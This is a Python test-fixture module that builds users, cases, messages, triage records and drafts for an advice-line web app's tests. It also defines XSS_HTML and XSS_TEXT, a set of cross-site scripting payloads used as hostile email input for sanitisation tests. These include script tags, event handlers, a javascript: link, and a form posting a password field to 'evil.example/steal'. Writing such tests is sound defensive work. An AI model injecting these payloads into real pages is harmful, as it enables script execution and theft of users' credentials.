"""Rows for the web tests, built through the models (what the pipeline would have stored)."""

from __future__ import annotations

import hashlib
import re
from collections.abc import Sequence
from datetime import UTC, date, datetime, timedelta
from typing import Any

from sqlalchemy.orm import Session

from storage.enums import CaseStatus, Direction, DraftStatus, MessageStatus, Role
from storage.models import Case, Draft, Message, Triage, User
from storage.users import create_user
from tests.factories import APPEAL_BODY, APPEAL_EVIDENCE

NOW = datetime(2026, 11, 28, 9, 0, tzinfo=UTC)
TODAY = NOW.date()
PASSWORD = "correct horse battery staple"
MANAGER_EMAIL = "maya.manager@advice-line.example"
ADVISER_EMAIL = "adam.adviser@advice-line.example"
OTHER_ADVISER_EMAIL = "olu.adviser@advice-line.example"

XSS_HTML = (
    '<p>Hello <b>advisers</b></p>'
    '<script>window.__xss = 1; alert("xss")</script>'
    '<img src="https://tracker.evil.example/pixel.gif" onerror="window.__xss=2;alert(2)"'
    ' alt="logo">'
    '<a href="javascript:window.__xss=3;alert(3)" id="jslink">click me</a>'
    '<div onclick="alert(4)" onmouseover="window.__xss=4;alert(4)" id="hover">hover here</div>'
    '<svg><script>alert(5)</script></svg>'
    '<iframe src="https://evil.example/"></iframe>'
    '<style>body { display: none }</style>'
    '<form action="https://evil.example/steal"><input name="password"></form>'
)
XSS_TEXT = 'Hello advisers <script>alert("text")</script> <img src=x onerror=alert(6)>'


def make_user(session: Session, email: str, role: Role, name: str = "") -> User:
    return create_user(session, email=email, password=PASSWORD, role=role, name=name)


def _raw(subject: str, sender: str, body: str) -> bytes:
    return (f"From: {sender}\r\nTo: advice@advice-line.example\r\nSubject: {subject}\r\n"
            f"Message-ID: <{hashlib.sha1(body.encode()).hexdigest()}@parent.example>\r\n\r\n"
            f"{body}\r\n").encode()


def add_case(
    session: Session,
    *,
    subject: str = "EHC needs assessment refused",
    parent: str = "priya.parent@example.org",
    parent_name: str = "Priya Parent",
    body: str = APPEAL_BODY,
    html: str | None = None,
    attachments: Sequence[dict[str, Any]] = (),
    categories: Sequence[str] = ("appeal",),
    next_step: str = "appeal",
    decision_date: date | None = date(2026, 11, 10),
    deadline: date | None = date(2027, 1, 11),
    safeguarding: bool = False,
    confidence: float = 0.91,
    needs_triage: bool = False,
    evidence: dict[str, list[str]] | None = None,
    created_at: datetime = NOW - timedelta(hours=5),
    status: CaseStatus = CaseStatus.AWAITING_APPROVAL,
    assignee: User | None = None,
    draft_body: str | None = "Dear Priya,\n\nThank you for writing to us. You can appeal.\n",
    draft_status: DraftStatus = DraftStatus.DRAFT,
    first_response_at: datetime | None = None,
) -> Case:
    """A case with one inbound message, its triage and (unless ``draft_body`` is None) a draft."""
    case = Case(
        parent_address=parent, parent_name=parent_name, subject=subject, status=status,
        categories=list(categories), next_step=next_step, decision_date=decision_date,
        deadline=deadline, safeguarding=safeguarding, confidence=confidence,
        needs_triage=needs_triage, assignee_id=assignee.id if assignee else None,
        created_at=created_at, updated_at=created_at, first_response_at=first_response_at,
    )
    session.add(case)
    session.flush()
    raw = _raw(subject, parent, body + (html or ""))
    message = Message(
        direction=Direction.INBOUND, raw=raw, size=len(raw),
        content_sha256=hashlib.sha256(raw).hexdigest(),
        message_id_header=f"<case{case.id}.{hashlib.sha1(raw).hexdigest()[:12]}@parent.example>",
        envelope_from=parent, envelope_to=["advice@advice-line.example"],
        received_at=created_at, status=MessageStatus.PROCESSED, case_id=case.id,
        from_address=parent, from_name=parent_name, sent_at=created_at - timedelta(minutes=3),
        subject=subject, new_text=body, full_text=body, html=html,
        attachments=list(attachments), processed_at=created_at,
    )
    session.add(message)
    session.flush()
    triage = Triage(
        message_id=message.id, case_id=case.id, model_version="test-model-1",
        scores={c: 0.9 for c in categories}, categories=list(categories), next_step=next_step,
        decision_date=decision_date, deadline=deadline, safeguarding=safeguarding,
        confidence=confidence,
        evidence=evidence if evidence is not None else (
            APPEAL_EVIDENCE if body == APPEAL_BODY else {}),
        details={"facts": {"child": "Sam"}, "notes": [], "needs_human": needs_triage},
        created_at=created_at,
    )
    session.add(triage)
    session.flush()
    if draft_body is not None:
        session.add(Draft(
            case_id=case.id, message_id=message.id, triage_id=triage.id, status=draft_status,
            next_step=next_step, to_address=parent, subject=f"Re: {subject} [case #{case.id}]",
            body=draft_body, version=1, drafted_by="model:test-model-1",
            in_reply_to=message.message_id_header, references=[message.message_id_header],
            created_at=created_at, updated_at=created_at,
            approved_at=created_at if draft_status != DraftStatus.DRAFT else None,
            sending_since=created_at if draft_status == DraftStatus.SENDING else None,
        ))
        session.flush()
    return case


def csrf_from(html: str) -> str:
    found = re.search(r'name="csrf_token" value="([^"]+)"', html)
    assert found, "no CSRF token on the page"
    return found.group(1)
